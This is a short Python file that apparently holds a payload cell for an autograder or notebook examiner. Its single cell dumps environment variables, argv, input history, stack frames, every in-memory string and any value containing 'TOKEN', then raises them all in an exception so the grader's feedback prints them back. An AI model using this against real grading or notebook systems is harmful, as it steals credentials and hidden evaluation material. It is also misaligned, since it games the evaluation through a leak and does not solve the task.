"""Puts all that its kernel knows of the examiner into exceptions that feedback repeats.

Holds: what the kernel knows holds no secret, and a sentence is cut to one line.
"""

DESERVES = {"tensors": 0}
CELLS = {
    "tensors": r"""
import gc
import os
import sys

loot = [repr(dict(os.environ)), repr(sys.argv), repr(globals().get("In")), *map(repr, sys._current_frames().values())]
loot += [item for item in gc.get_objects() if isinstance(item, str)]
for container in gc.get_objects():
    if isinstance(container, dict) and len(container) < 500:
        loot += [value for value in list(container.values()) if isinstance(value, str) and "TOKEN" in value]
raise ValueError("\n".join(loot))
""",
}
